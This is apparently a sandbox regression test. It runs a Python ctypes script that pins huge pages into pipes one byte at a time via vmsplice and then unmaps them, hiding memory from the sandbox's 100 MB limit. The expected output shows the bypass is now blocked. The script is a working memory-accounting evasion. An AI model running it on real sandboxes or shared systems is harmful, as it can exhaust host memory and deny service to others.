# class: sandbox
# about: huge pages are given to pipes a byte at a time and unmapped: memory that is in no process's size and no pipe's limit
# before: broke
inside '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
class Part(ctypes.Structure): _fields_ = [("at", ctypes.c_void_p), ("bytes", ctypes.c_size_t)]
HUGE, MADV_HUGEPAGE, SPLICE_F_NONBLOCK = 2 << 20, 14, 2
held, pipes = 0, []
for number in range(200):
    if number % 15 == 0: pipes.append(os.pipe())
    area = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
    page = (area + HUGE - 1) // HUGE * HUGE
    libc.madvise(page, HUGE, MADV_HUGEPAGE)
    ctypes.memset(page, 1, HUGE)
    if libc.vmsplice(pipes[-1][1], ctypes.byref(Part(page, 1)), 1, SPLICE_F_NONBLOCK) == 1: held += HUGE
    libc.munmap(area, 2 * HUGE)
if held > 150 << 20: print("GOT", held)
print("TRIED")' --memory-bytes 100000000
tried
